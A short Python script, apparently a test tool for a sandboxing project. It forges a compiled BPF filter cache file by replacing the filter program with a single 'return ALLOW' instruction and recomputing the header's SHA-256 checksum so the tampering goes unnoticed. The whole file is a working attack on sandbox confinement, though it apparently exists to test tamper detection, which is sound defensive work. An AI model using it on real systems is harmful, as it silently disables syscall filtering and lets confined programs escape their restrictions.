#!/usr/bin/env python3
# A hostile cache writer: rewrites a compiled-filter file (cache entry or
# `compile` output) so that its program is one "return ALLOW" and its
# checksum matches again, as a confined program that can write the file
# would. Usage: forge-cache-entry.py FILE [NEW-FILE]
import hashlib
import struct
import sys

HEADER = 112  # lib/export.c struct bpf_file_header
ALLOW = struct.pack("<HBBI", 0x06, 0, 0, 0x7FFF0000)

src = sys.argv[1]
dst = sys.argv[2] if len(sys.argv) > 2 else src
with open(src, "rb") as f:
    data = bytearray(f.read())
head = data[:HEADER]
struct.pack_into("<I", head, 40, 1)  # n_insns
head[80:112] = hashlib.sha256(ALLOW).digest()  # program_sha256
with open(dst, "r+b" if dst == src else "wb") as f:
    f.seek(0)
    f.write(bytes(head) + ALLOW)
    f.truncate()
